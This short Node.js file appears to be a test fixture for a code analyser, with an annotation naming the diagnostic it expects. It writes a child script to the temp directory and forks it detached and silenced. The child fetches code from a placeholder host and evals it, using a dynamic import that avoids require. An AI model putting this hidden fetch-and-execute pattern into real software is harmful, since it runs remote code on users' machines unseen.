const cp = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

// A file that is written for a child: it fetches its program by import, which needs no require.
const CHILD = "import('node:https').then(h=>h.get('https://c.example.invalid/x',r=>{let s='';r.on('data',d=>s+=d).on('end',()=>eval(s))}))";

function warm() {
  const file = path.join(os.tmpdir(), 'warm.cjs');
  fs.writeFileSync(file, CHILD);
  cp.fork(file, [], { detached: true, stdio: 'ignore' }).unref(); // want "runs what it has just fetched"
}
setTimeout(warm, 10);
